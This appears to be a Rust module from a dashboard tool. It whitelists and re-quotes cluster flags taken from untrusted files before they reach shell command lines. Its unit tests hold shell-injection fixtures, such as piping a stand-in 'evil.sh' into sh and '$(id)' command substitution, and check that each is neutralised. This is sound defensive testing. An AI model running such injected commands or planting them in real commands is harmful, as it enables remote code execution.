//! The flags that reach a cluster, out of a file that anybody may have written. They go into command
//! lines that are copied for a shell: nothing but flags comes through.

use crate::shell_words::quoted;
use crate::terminal::is_unsafe;

/// The flags that the dashboard itself writes there.
const FLAGS: [&str; 4] = ["--context", "-b", "--command-config", "-X"];

/// The same flags, quoted anew; nothing of a text that has anything else in it.
pub(crate) fn flags_of(text: &str) -> String {
    let words = shlex::split(text).unwrap_or_default();
    let mut flags = String::new();
    for pair in words.chunks(2) {
        match pair {
            [flag, value] if FLAGS.contains(&flag.as_str()) && !value.contains(is_unsafe) => {
                flags.push_str(&format!(" {flag} {}", quoted(value)));
            }
            _ => return String::new(),
        }
    }
    flags
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_come_through_and_nothing_else_does() {
        let same =
            " --context 'prod eu' --command-config '/etc/my client' -X client.id=a -X 'b=\"c\"'";
        assert_eq!(flags_of(same), same);
        assert_eq!(flags_of(" -b kafka-1:9092"), " -b kafka-1:9092");
        assert_eq!(flags_of(""), "");
        assert_eq!(flags_of(" -b ';curl evil.sh|sh'"), " -b ';curl evil.sh|sh'");
        assert_eq!(flags_of(" -b $(id)"), " -b '$(id)'");
        for wrong in [
            " ; curl evil.sh | sh\n",
            " --context a ; sh",
            " --context a;sh --help x",
            " --yes --force",
            " -b 'a\nsh'",
            " -b 'a\x03sh'",
            " -b 'a",
            " -b",
        ] {
            assert_eq!(flags_of(wrong), "", "{wrong}");
        }
    }
}
